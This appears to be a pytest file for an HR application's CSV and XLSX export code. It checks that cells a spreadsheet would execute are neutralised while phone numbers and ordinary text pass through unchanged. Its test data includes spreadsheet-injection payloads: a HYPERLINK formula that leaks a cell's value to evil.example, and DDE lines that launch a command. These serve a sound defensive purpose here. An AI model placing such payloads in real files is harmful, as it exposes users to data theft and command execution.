"""Exports neutralise what a spreadsheet would run and leave phone numbers as they are."""

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from hrflow.core.spreadsheets import runs_as_formula, to_csv, to_xlsx

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "+86-158-3323-4003",  # Excel reads this as a subtraction
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["+8615833234003", "-5", "+86 158 3323 4003", "-12.5", "王芳", "a=b", "13800138000"]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_a_spreadsheet_would_run_is_a_formula(value):
    assert runs_as_formula(value)


@pytest.mark.parametrize("value", HARMLESS)
def test_numbers_phone_numbers_and_text_are_not(value):
    assert not runs_as_formula(value)


def _csv_row(values):
    text = to_csv(["x"] * len(values), [values]).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))[1]


def test_csv_prefixes_only_hostile_cells():
    assert _csv_row(HOSTILE) == ["'" + value for value in HOSTILE]
    assert _csv_row(HARMLESS) == HARMLESS


def test_csv_writes_rounded_scores_as_they_are_and_empty_for_none():
    assert _csv_row([Decimal("93.8"), None]) == ["93.8", ""]


def test_xlsx_writes_every_text_as_an_inert_string_cell_without_an_apostrophe():
    data = to_xlsx(["x"] * 4, [[*HOSTILE[:2], "+8615833234003", Decimal("93.8")]], title="t")

    row = load_workbook(io.BytesIO(data)).active[2]

    assert [cell.value for cell in row] == [*HOSTILE[:2], "+8615833234003", 93.8]
    assert [cell.data_type for cell in row] == ["s", "s", "s", "n"]  # no formula cell


def test_xlsx_drops_characters_an_xlsx_file_cannot_hold_instead_of_failing():
    data = to_xlsx(["x"], [["王\x00芳\x1f"]], title="t")

    assert load_workbook(io.BytesIO(data)).active["A2"].value == "王芳"
